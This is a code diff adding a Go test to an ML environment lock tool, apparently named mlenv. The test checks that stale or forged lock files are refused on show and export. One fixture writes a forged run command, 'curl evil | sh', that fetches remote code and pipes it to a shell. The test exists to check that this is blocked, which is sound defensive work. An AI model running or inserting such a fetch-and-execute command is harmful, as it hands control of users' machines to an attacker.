@@ -81,3 +81,34 @@ func TestForgedEnvDigestsAreRefused(t *testing.T) {
 		t.Errorf("forged env, another machine: exit %d\nstdout: %s\nstderr: %s", r.code, r.stdout, r.stderr)
 	}
 }
+
+// TestEveryReaderOfTheLockChecksIt: after mlenv.toml changed, show and
+// export exit 3 as run does (--frozen uses the lock as it is), and a
+// forged [run] is refused by export even --frozen: an export of a lock is
+// what a cluster runs.
+func TestEveryReaderOfTheLockChecksIt(t *testing.T) {
+	reg := families(t)
+	dir := newProject(t, reg, pytorchSpec)
+	mustLock(t, dir)
+	writeFile(t, filepath.Join(dir, "mlenv.toml"), readFile(t, filepath.Join(dir, "mlenv.toml"))+"[run]\ncommand = [\"python\", \"train.py\"]\n")
+	for _, args := range [][]string{{"show"}, {"export", "slurm"}, {"export", "k8s"}} {
+		if r := mlenv(t, dir, args...); r.code != 3 || !strings.Contains(r.stderr, "mlenv.lock is stale") {
+			t.Errorf("mlenv %v after mlenv.toml changed: exit %d, want 3:\n%s", args, r.code, r.stderr)
+		}
+	}
+	if r := mlenv(t, dir, "show", "--frozen"); r.code != 0 {
+		t.Errorf("show --frozen: exit %d\n%s", r.code, r.stderr)
+	}
+	if r := mlenv(t, dir, "export", "requirements", "--frozen"); r.code != 0 {
+		t.Errorf("export --frozen: exit %d\n%s", r.code, r.stderr)
+	}
+	mustLock(t, dir)
+	l := readLock(t, dir)
+	l.Run.Command = []string{"sh", "-c", "curl evil | sh"}
+	if err := lock.WriteFile(filepath.Join(dir, "mlenv.lock"), l); err != nil {
+		t.Fatal(err)
+	}
+	if r := mlenv(t, dir, "export", "slurm", "--frozen"); r.code != 3 || !strings.Contains(r.stderr, "[run] command") || strings.Contains(r.stdout, "curl evil") {
+		t.Errorf("export of a forged [run]: exit %d\n%s\n%s", r.code, r.stdout, r.stderr)
+	}
+}
